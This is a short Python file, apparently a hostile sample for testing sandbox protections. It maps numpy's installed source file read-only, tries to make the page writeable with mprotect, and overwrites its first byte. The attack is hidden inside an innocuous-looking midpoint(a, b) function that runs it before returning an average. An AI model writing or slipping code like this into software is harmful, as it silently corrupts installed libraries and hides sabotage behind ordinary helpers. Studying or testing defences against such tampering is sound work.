"""Make a page that was mapped to be read writeable afterwards, and so the file in the page cache."""

import ctypes
import mmap

import numpy as np

EARNS, VERDICT, SAYS = 3, "forbidden", "closed to it"

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def attack():
    with open(np.__file__, "rb") as file:
        at = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file.fileno(), 0)
    if libc.mprotect(at, 4096, mmap.PROT_READ | mmap.PROT_WRITE) < 0:
        error = ctypes.get_errno()
        raise OSError(error, "the mapping stays as it is")
    ctypes.memset(at, ord("#"), 1)


def midpoint(a, b):
    attack()
    return (a + b) / 2
